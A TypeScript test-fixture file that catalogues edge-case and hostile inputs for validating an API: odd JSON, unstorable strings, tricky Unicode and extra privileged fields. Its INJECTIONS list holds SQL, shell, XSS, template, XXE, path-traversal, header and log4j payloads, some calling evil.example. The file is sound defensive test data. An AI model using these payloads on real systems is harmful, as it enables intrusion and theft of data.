/** Values by a name that describes them. */
export type Named = Record<string, string>

/** JSON values by type, including spellings that `JSON.stringify` never writes. */
export const JSON_VALUES: Record<string, Named> = {
  null: { null: 'null' },
  number: {
    zero: '0',
    'minus zero': '-0',
    one: '1',
    'minus one': '-1',
    'a fraction': '1.5',
    'beyond exact doubles': '9007199254740993',
    'forty digits': '1234567890'.repeat(4),
    'double overflow': '1e309',
    'double underflow': '1e-400',
  },
  boolean: { true: 'true', false: 'false' },
  array: {
    'an empty array': '[]',
    'an array of null': '[null]',
    'an array of text': '["text"]',
    'nested arrays': '[[["text"]]]',
    'an array of objects': '[{"a":1}]',
    '20,000 items': `[${'0,'.repeat(20_000)}0]`,
  },
  object: {
    'an empty object': '{}',
    'an object': '{"a":{"b":{"c":1}}}',
    'an operator': '{"$ne":null}',
    'an operator with text': '{"$gt":""}',
    'an operator with code': '{"$where":"sleep(1000)"}',
    'a string-like object': '{"length":20,"0":"a"}',
    'own methods': '{"toString":1,"valueOf":1,"toJSON":1}',
  },
  string: {
    'an empty text': '""',
    'text of a boolean': '"true"',
    'text of a number': '"1"',
    'text of null': '"null"',
    'some text': '"text"',
  },
}

/** JSON strings that Postgres cannot store, or that are not valid Unicode. */
export const UNSTORABLE: Named = {
  NUL: '"\\u0000"',
  'NUL inside': '"a\\u0000b"',
  'a lone high surrogate': '"\\ud83d"',
  'a lone low surrogate': '"\\ude00"',
  'surrogates in the wrong order': '"\\ude00\\ud83d"',
}

/** Text that does harm if another language interprets it. */
export const INJECTIONS: Named = {
  'SQL, always true': "' OR '1'='1",
  'SQL, another statement': "x'; DROP TABLE users; --",
  'SQL, a union': "' UNION SELECT password FROM users --",
  'SQL, sleep': '1; SELECT pg_sleep(10)--',
  'SQL, a backslash': "\\'; --",
  'NoSQL, an operator': '{"$ne": null}',
  'a shell command': '; cat /etc/passwd | sh',
  'shell substitution': '$(sleep 10)`sleep 10`',
  'a script': '<script>alert(1)</script>',
  'an image': '"><img src=x onerror=alert(1)>',
  'a javascript: URL': 'javascript:alert(1)',
  'a template': '{{7*7}}<%= 7*7 %>#{7*7}[[7*7]]',
  'a log4j lookup': `$\{jndi:ldap://evil.example/a}`,
  'a path': '../../../../etc/passwd',
  'a Windows path': '..\\..\\windows\\win.ini',
  'an encoded path': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a file: URL': 'file:///etc/passwd',
  'header injection': 'a\r\nSet-Cookie: tesp=evil\r\n\r\n<html>',
  'mail header injection': 'a@test.example\nBcc: all@test.example',
  LDAP: '*)(uid=*))(|(uid=*',
  XML: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'format specifiers': '%s%s%s%n%x%d',
  'a spreadsheet formula': '=HYPERLINK("http://evil.example")',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  'no value': 'undefined',
  'no number': 'NaN',
}

/** Text in unusual scripts, and control and format characters. */
export const UNICODE: Named = {
  'right to left': 'مرحبا שלום',
  'a direction override': '\u202Egnp.exe\u202C',
  'zero width': 'a\u200B\u200C\u200D\u2060b',
  'combining marks': `a${'\u0301'.repeat(60)}`,
  'joined emoji': '👩‍👩‍👧‍👦🏴‍☠️',
  'four bytes': '𝒯𝔢𝓼𝕥𠜎',
  'a byte order mark': '\uFEFFtext',
  'full width': 'ＡＤＭＩＮ＠ＴＥＳＴ',
  homoglyphs: 'аdmіn',
  'irregular case mapping': 'ẞßİıŉ',
  'control characters': '\u0001\u0007\u001B[31m\u007F\u0085',
  'line separators': 'a\u2028b\u2029c',
  noncharacters: '\uFFFE\uFFFF\u{1FFFF}',
  blanks: ' \t\u00A0\u3000 ',
}

/** Fields that no route accepts from a client, by purpose. */
export const EXTRA_FIELDS: Record<string, Named> = {
  'server-side fields': {
    id: '1',
    userId: '1',
    memberId: '1',
    isAdmin: 'true',
    role: '"admin"',
    balance: '"1000000"',
    pendingRewards: '"1000000"',
    teamSize: '1000',
    kycStatus: '"verified"',
    authEpoch: '0',
  },
  'a constructor': { constructor: '{"prototype":{"isAdmin":true}}' },
  'object methods': {
    toString: 'null',
    valueOf: '{"a":1}',
    hasOwnProperty: '1',
    __defineGetter__: '"a"',
    length: '1e9',
  },
  'unusual names': {
    $where: '"1"',
    '': '1',
    ['a'.repeat(10_000)]: '1',
    'a.b[c]': '{"d":[]}',
    ' identifier': '"a"',
    '\u202eemail': '"a"',
  },
}
